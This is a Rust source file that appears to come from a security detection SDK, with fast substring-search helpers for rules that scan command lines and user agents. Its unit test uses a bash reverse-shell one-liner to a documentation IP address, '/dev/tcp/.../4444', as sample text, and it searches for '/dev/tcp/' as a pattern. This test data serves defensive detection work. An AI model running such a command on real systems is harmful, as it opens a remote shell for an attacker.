//! Fast text search.
//!
//! Many rules search user agents, command lines, and paths for words. In WebAssembly,
//! `str::contains` compares one byte at a time; these functions compare 16 (`wardline plugin build`
//! enables the instructions that they need).

use memchr::memmem;

/// Returns whether a text contains another. Every text contains the empty one.
///
/// ```
/// assert!(wardline_sdk::text::contains("curl/8.5.0 (kube-hunter)", "kube-hunter"));
/// ```
#[inline]
#[must_use]
pub fn contains(text: &str, search: &str) -> bool {
    find(text, search).is_some()
}

/// Returns the offset, in bytes, of the first occurrence of `search` in a text.
#[inline]
#[must_use]
pub fn find(text: &str, search: &str) -> Option<usize> {
    memmem::find(text.as_bytes(), search.as_bytes())
}

/// A prepared search for one text in many others.
#[derive(Debug, Clone)]
pub struct Search(memmem::Finder<'static>);

impl Search {
    /// Prepares a search.
    #[must_use]
    pub fn new(search: &str) -> Self {
        Self(memmem::Finder::new(search.as_bytes()).into_owned())
    }

    /// Returns whether a text contains the one that is searched for, as [`contains`].
    #[inline]
    #[must_use]
    pub fn is_in(&self, text: &str) -> bool {
        self.0.find(text.as_bytes()).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::{Search, contains, find};

    #[test]
    fn agrees_with_the_standard_library() {
        let text = "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' # é";
        for search in [
            "/dev/tcp/",
            "",
            "é",
            "sh",
            "bash  ",
            text,
            "4444 0>&1' # éé",
        ] {
            assert_eq!(find(text, search), text.find(search), "{search}");
            assert_eq!(contains(text, search), text.contains(search), "{search}");
            assert_eq!(
                Search::new(search).is_in(text),
                text.contains(search),
                "{search}"
            );
        }
        assert!(!contains("", "a"));
    }
}
